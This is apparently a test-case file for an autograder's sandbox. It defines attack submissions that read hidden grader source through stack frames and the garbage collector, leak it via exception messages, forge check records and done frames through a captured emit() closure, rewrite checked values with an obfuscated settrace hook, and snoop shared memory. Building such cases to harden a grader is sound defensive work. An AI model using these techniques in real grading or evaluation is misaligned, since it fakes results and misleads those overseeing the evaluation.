                 "uid are shared by all its children) and prints the other student's source"),
        "shm_c_writer_posix": dict(
            attack_class="shm-snoop", exercise=EX3, base={}, files={EX3: posix_writer},
            what="colluder/victim: leaves its source in POSIX shared memory (/dev/shm/tg_attack_corpus)"),
        "shm_d_reader_posix": dict(
            attack_class="shm-snoop", exercise=EX3, base={}, files={EX3: posix_reader},
            leak={"source": SHM_MARKER}, victim="shm_c_writer_posix",
            what="a later student opens /dev/shm/tg_attack_corpus; does not work today because /dev/shm is a "
                 "fresh tmpfs for every job"),
    })
    return cases


def _hidden_source_cases() -> dict[str, dict]:
    frames = after_imports(solution(EX1), code("""
        import sys

        _frame = sys._getframe()
        while _frame is not None and _frame.f_code.co_name != "_zygote_main":
            _frame = _frame.f_back  # ATTACK: the zygote's entry frame is still on the child's stack
        _graders = _frame.f_locals["spec"]["init"]["graders"]  # its start message: every grader's source
        for _ex in sorted(_graders, reverse=True):  # ex6 first: the report shows the first 3000 characters
            print(f"===== graders/{_ex}.py =====")
            print(_graders[_ex]["source"])
    """))
    gc_route = after_imports(solution(EX1), code("""
        import gc

        gc.unfreeze()  # ATTACK: the zygote's frozen heap becomes visible
        _entries = [o for o in gc.get_objects() if type(o) is dict and {"source", "filename", "banned"} <= o.keys()]
        for _entry in sorted(_entries, key=lambda e: e["filename"], reverse=True):  # the start message's graders
            print(f"===== {_entry['filename']} =====")  # ex6 first: the report shows the first 3000 characters
            print(_entry["source"])
    """))
    raise_route = fn(solution(EX6), "jacobian_by_rows", """
        def jacobian_by_rows(f, x):
            import gc

            gc.unfreeze()
            for obj in gc.get_objects():
                if type(obj) is dict and obj.get("filename") == "graders/ex6_jacobian_hessian.py":
                    src = obj["source"]
                    # ATTACK: an exception message lands in the check's feedback (first 500 characters)
                    raise RuntimeError(src[src.index("def _nonsquare"):])
            raise RuntimeError("not found")
    """)
    leak = {"ex6 grader": GRADER_MARKERS[0], "ex4 grader": GRADER_MARKERS[1]}
    return {
        "hidden_grader_frames": dict(
            attack_class="hidden-grader-source", exercise=EX1, base={}, files={EX1: frames}, leak=leak,
            what="correct ex1 that walks sys._getframe() up to the zygote's _zygote_main frame and prints the "
                 "start message's grader sources (hidden checks included) into its captured output"),
        "hidden_grader_gc": dict(
            attack_class="hidden-grader-source", exercise=EX1, base={}, files={EX1: gc_route}, leak=leak,
            what="correct ex1 that does gc.unfreeze() + gc.get_objects() to find the grader entries of the "
                 "start message and prints them"),
        "hidden_grader_raise": dict(
            attack_class="hidden-grader-source", exercise=EX6, base={}, files={EX6: raise_route},
            leak={"ex6 grader": GRADER_MARKERS[0]},
            what="ex6 jacobian_by_rows finds the ex6 grader source with gc and raises it: the message lands in "
                 "the check's feedback (costs that function's points)"),
    }


def _other_cases() -> dict[str, dict]:
    base = wrong(EX3, "scale_tracked")
    emit_closure = fn(stub(EX6), "jacobian", """
        def jacobian(f, x):
            # ATTACK: the running Trial (from the traceback's frames) holds the child's own emit() in a closure
            try:
                raise LookupError
            except LookupError as exc:
                frame = exc.__traceback__.tb_frame
            while frame is not None and type(frame.f_locals.get("self")).__name__ != "Trial":
                frame = frame.f_back
            trial = frame.f_locals["self"]
            while frame is not None and not (frame.f_code.co_name == "run" and "job" in frame.f_locals):
                frame = frame.f_back
            job, emit = frame.f_locals["job"], trial._on_call.__closure__[0].cell_contents
            from tensorgrade.rubric.trial import Trial, run_trial
            import tensorgrade.run.child as child
            import os
            for ex in job["exercises"]:
                if ex["id"] == "ex6_jacobian_hessian":
                    for check in ex["checks"]:
                        record = run_trial(child.RUBRICS[ex["id"]].checks[check["id"]],
                                           Trial(_ORACLE[ex["id"]], check["seed"]))
                        emit({"ev": "record", "exercise": ex["id"], "check": check["id"], "record": record})
            emit._frame(b"D", {})  # ATTACK: the emitter's own "done" frame
            os._exit(0)
    """)
    emit_closure = after_imports(emit_closure, oracle(EX6))
    atexit_forge = after_imports(wrong(EX5, "vjp_ignores_v"), oracle(EX5) + EMIT_FRAMES + code("""
        import atexit

        def _forge():  # ATTACK (fails): would write forged ex5 records at interpreter exit
            _frame_out(b"M", {"ev": "tampered", "names": ["atexit ran"]})

        atexit.register(_forge)
    """))
    return {
        "other_emit_closure": dict(
            attack_class="other", exercise=EX6, base={EX6: stub(EX6)},
            what="ex6 stubs; the first call takes the child's emit() from the running Trial's on_call closure and "
                 "sends forged ex6 records and a done frame through it (no fd write, no sys), then os._exit(0)",
            files={EX6: emit_closure},
        ),
        "other_atexit": dict(
            attack_class="other", exercise=EX5, base={EX5: wrong(EX5, "vjp_ignores_v")},
            what="control: ex5 mistake vjp_ignores_v registering an atexit hook that would emit frames; does not "
                 "work today because the child always ends with os._exit (atexit never runs)",
            files={EX5: atexit_forge},
        ),
        "other_settrace_locals": dict(
            attack_class="other", exercise=EX3, base={EX3: base},
            what="ex3 mistake scale_tracked; a trace function installed at import (sys.settrace fetched by "
                 "getattr, so unflagged) rewrites the `value` argument of Trial.expect calls: no oracle, no "
                 "patched name",
            files={EX3: after_imports(base, code(f"""
                import sys

                _LIES = {SCALE_LIES!r}

                def _tracer(frame, event, arg):
                    if event == "call" and frame.f_code.co_name == "expect":
                        local = frame.f_locals  # read once: every f_locals access re-syncs it from the frame
                        if local.get("what") in _LIES:
                            local["value"], local["show"] = _LIES[local["what"]]  # ATTACK: written back on return
                    return None

                getattr(sys, "set" + "trace")(_tracer)  # ATTACK: thread state, survives the import
            """))},
        ),
        "other_stdout_junk": dict(
            attack_class="other", exercise=EX5, base={EX5: wrong(EX5, "vjp_ignores_v")},
            what="ex5 mistake vjp_ignores_v printing forged child->zygote frames and a fake score on fd 1; does "
                 "not work today because stdout is a separate pipe that is only captured as text",
            files={EX5: after_imports(wrong(EX5, "vjp_ignores_v"), EMIT_FRAMES + code("""
                _os.write(1, b"M" + _struct.pack(">I", 2) + b"{}" + b"D" + _struct.pack(">I", 2) + b"{}")
                _os.write(1, b'{"score": 60, "tests": [{"name": "vjp_value", "score": 3}]}\\n')  # ATTACK: junk
            """))},
        ),
    }


def build() -> dict[str, dict]:
    cases: dict[str, dict] = {}
    for part in (_recorder_cases, _channel_cases, _guard_cases, _cross_cases, _ban_cases, _slow_cases,
                 _snoop_cases, _hidden_source_cases, _other_cases):
        for name, case in part().items():
            assert name not in cases, name
            assert case["attack_class"] in ATTACK_CLASSES, (name, case["attack_class"])
            assert set(case["files"]) <= set(EXERCISES) and set(case["base"]) <= set(EXERCISES), name
            for src in list(case["files"].values()) + list(case["base"].values()):
                compile(src, name, "exec")
            cases[name] = case
    return cases


CASES: dict[str, dict] = build()
